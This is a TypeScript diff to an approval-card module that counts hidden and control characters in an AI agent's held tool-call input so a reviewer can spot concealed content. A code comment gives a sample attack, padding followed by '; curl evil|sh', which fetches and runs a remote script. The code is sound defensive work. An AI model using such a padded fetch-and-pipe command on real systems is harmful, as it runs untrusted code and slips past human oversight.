@@ -1,5 +1,6 @@
 // How a held tool call reads on its inbox card: the command (or the whole input, pretty) and
 // what its deadline will decide. Pure, so the card's wording is tested without a browser.
+import { revealHidden } from "./reveal-hidden";
 
 /**
  * How much of a call's input the hook route keeps on the approval (GATED_INPUT_MAX of the domain;
@@ -20,18 +21,28 @@ export type HeldInput = {
    * the person could not read to its end (padding, then `; curl evil|sh`), so the card offers only Deny.
    */
   whole: boolean;
+  /** How many hidden or control characters the agent's input holds (each once, though the card may show it twice). */
+  hidden: number;
 };
 
 export function heldInput(text: string | undefined): HeldInput {
-  if (!text) return { command: null, pretty: "", whole: false };
+  if (!text) return { command: null, pretty: "", whole: false, hidden: 0 };
   try {
     const value: unknown = JSON.parse(text);
     const command = value && typeof value === "object" && typeof (value as { command?: unknown }).command === "string" ? (value as { command: string }).command : null;
     // The route's JSON of an input object never ends with the mark: a text that does was cut, whatever parses.
-    return { command, pretty: JSON.stringify(value, null, 2), whole: !text.endsWith(CUT_MARK) };
+    return { command, pretty: JSON.stringify(value, null, 2), whole: !text.endsWith(CUT_MARK), hidden: hiddenIn(value) };
   } catch {
-    return { command: null, pretty: text, whole: false };
+    return { command: null, pretty: text, whole: false, hidden: revealHidden(text).hidden };
   }
+}
+
+/** Hidden characters in a parsed input's keys and strings (the JSON's own escapes are not the agent's). */
+function hiddenIn(value: unknown): number {
+  if (typeof value === "string") return revealHidden(value).hidden;
+  if (!value || typeof value !== "object") return 0;
+  const entries = Array.isArray(value) ? value.map((v) => ["", v] as const) : Object.entries(value);
+  return entries.reduce((n, [k, v]) => n + revealHidden(k).hidden + hiddenIn(v), 0);
 }
 
 /** The banner of a call the card cannot show whole. */
